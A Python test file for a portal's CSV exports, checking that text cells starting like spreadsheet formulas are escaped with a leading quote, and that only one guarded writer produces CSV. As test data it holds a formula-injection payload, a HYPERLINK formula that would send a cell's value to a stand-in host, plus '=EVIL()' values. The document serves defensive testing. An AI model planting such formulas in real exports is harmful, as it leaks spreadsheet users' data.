"""Every CSV the portal writes guards every text cell, headers included, through one writer."""

import csv
import io
from pathlib import Path

from imports import services
from imports.formulas import FORMULA_STARTS

from ..factories import AttributeDefinitionFactory
from .test_run_import import run

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_NAME = '=HYPERLINK("http://x/?"&A2,"y")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{cell!r} would run as a formula"


def test_an_attribute_named_like_a_formula_is_text_in_the_template(organization):
    AttributeDefinitionFactory(organization=organization, name=HOSTILE_NAME)
    rows = rows_of(services.template_csv(organization))
    assert rows[0][2] == "'" + HOSTILE_NAME
    assert rows[1][1] == "'+91 98123 45678"  # the example number, which the import still ignores
    assert_no_live_formula(rows)


def test_the_error_log_guards_the_files_own_header_and_rejected_cells(make_job, organization, org_admin):
    job = run(make_job("Name,Phone Number,=EVIL()\n=EVIL(),not a number,=EVIL()\n"))
    rows = rows_of("".join(services.error_log_lines(job)))
    assert rows[0] == ["Row", "Column", "Reason", "Name", "Phone Number", "'=EVIL()"]
    (rejected,) = [row for row in rows if row[0] == "2"]
    assert rejected[3:] == ["'=EVIL()", "not a number", "'=EVIL()"]
    assert_no_live_formula(rows)


def test_no_module_writes_csv_but_through_the_guarded_writer():
    writers = [
        path.relative_to(ROOT)
        for path in ROOT.glob("*/**/*.py")
        if path.parts[len(ROOT.parts)] not in {".venv", "tests", "benchmarks", "loadtest", "var"}
        and "csv.writer(" in path.read_text(encoding="utf-8")
    ]
    assert writers == [Path("imports/formulas.py")]
